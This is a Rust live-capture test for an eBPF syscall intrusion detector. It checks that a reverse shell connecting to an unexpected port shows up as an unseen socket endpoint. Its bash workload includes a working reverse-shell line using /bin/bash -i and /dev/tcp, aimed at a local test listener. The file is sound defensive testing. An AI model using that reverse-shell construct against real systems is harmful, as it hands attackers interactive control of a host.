//! Live, end to end: socket endpoints are arguments (modern mode).
//!
//! The kernel program reads the `struct sockaddr` of `connect`; the
//! recording carries it as `addr=`; reading the recording back gives the
//! typed endpoint; a baseline trained on a workload that talks to one
//! service flags, as an unseen argument, the reverse shell that connects
//! to a listener on another port — and nothing on a normal run.
//!
//! Needs root, kernel BTF and /bin/bash.
#![cfg(feature = "live")]

use std::io::{Read, Write};
use std::net::TcpListener;
use std::path::{Path, PathBuf};
use std::time::Duration;

use chids_core::features::{read_recording, Settings};
use chids_live::{self as live, RecordOptions, Target};

/// A listener on a port below the ephemeral range (so the model keeps the
/// port), answering every connection with `reply` and closing it.
fn listener(reply: &'static [u8]) -> u16 {
    for port in (20_000u16..30_000).step_by(97) {
        if let Ok(l) = TcpListener::bind(("127.0.0.1", port)) {
            std::thread::spawn(move || {
                for mut c in l.incoming().flatten() {
                    let _ = c.write_all(reply);
                    let mut sink = [0u8; 256];
                    let _ = c.set_read_timeout(Some(Duration::from_millis(200)));
                    let _ = c.read(&mut sink);
                }
            });
            return port;
        }
    }
    panic!("no free port in 20000..30000");
}

/// Talks to the service five times; with `$SHELL_PORT` set, also opens a
/// reverse shell to it (the listener sends `exit`).
const WORKLOAD: &str = r#"
for i in 1 2 3 4 5; do
  exec 3<>/dev/tcp/127.0.0.1/$SERVICE_PORT || exit 3
  head -c 5 <&3 >/dev/null
  exec 3<&-
  sleep 0.05
done
if [ -n "$SHELL_PORT" ]; then
  /bin/bash -i >/dev/tcp/127.0.0.1/$SHELL_PORT 0<&1 2>/dev/null
fi
exit 0
"#;

fn record(dir: &Path, name: &str, service: u16, shell: Option<u16>) -> PathBuf {
    let out = dir.join(format!("{name}.zip"));
    let summary = live::record(
        RecordOptions {
            target: Target::Command(vec![
                "/usr/bin/env".into(),
                format!("SERVICE_PORT={service}"),
                format!(
                    "SHELL_PORT={}",
                    shell.map(|p| p.to_string()).unwrap_or_default()
                ),
                "/bin/bash".into(),
                "-c".into(),
                WORKLOAD.into(),
            ]),
            out: out.clone(),
            duration: Some(Duration::from_secs(60)),
            exploit_at: None,
            marker_file: None,
            force: false,
            stop: Default::default(),
        },
        &mut |_| {},
    )
    .unwrap();
    assert_eq!(
        summary.command_status,
        Some(0),
        "workload failed: {summary:?}"
    );
    out
}

fn unseen_args(rec: &Path, baseline: &chids_core::features::TrainingElements) -> Vec<String> {
    let source = chids_core::source::discover::open(rec).unwrap();
    let features = read_recording(
        source.as_ref(),
        Settings::default(),
        Some(baseline),
        true,
        &Default::default(),
    )
    .unwrap();
    features
        .features
        .iter()
        .flat_map(|w| w.unseen_args.iter().map(|a| a.arg.clone()))
        .collect()
}

#[test]
#[ignore = "needs root and eBPF (run with --include-ignored)"]
fn a_reverse_shell_is_an_unseen_endpoint() {
    live::capture::check_environment().expect("live capture environment");
    let tmp = tempfile::tempdir().unwrap();
    let service = listener(b"hello");
    let shell = listener(b"exit\n");

    let normal = record(tmp.path(), "normal", service, None);
    let again = record(tmp.path(), "again", service, None);
    let attack = record(tmp.path(), "attack", service, Some(shell));

    // The training elements of the first normal run.
    let source = chids_core::source::discover::open(&normal).unwrap();
    let trained = read_recording(
        source.as_ref(),
        Settings::default(),
        None,
        false,
        &Default::default(),
    )
    .unwrap();
    let service_arg = format!("inet:127.0.0.1:{service}");
    assert!(
        trained.elements.seen_args.contains(&service_arg),
        "the service endpoint is an argument: {:?}",
        trained.elements.seen_args
    );

    let in_normal: Vec<_> = unseen_args(&again, &trained.elements)
        .into_iter()
        .filter(|a| a.starts_with("inet"))
        .collect();
    assert!(in_normal.is_empty(), "normal run: {in_normal:?}");

    let shell_arg = format!("inet:127.0.0.1:{shell}");
    let in_attack = unseen_args(&attack, &trained.elements);
    assert!(
        in_attack.contains(&shell_arg),
        "the reverse shell's endpoint {shell_arg} is unseen: {in_attack:?}"
    );
}
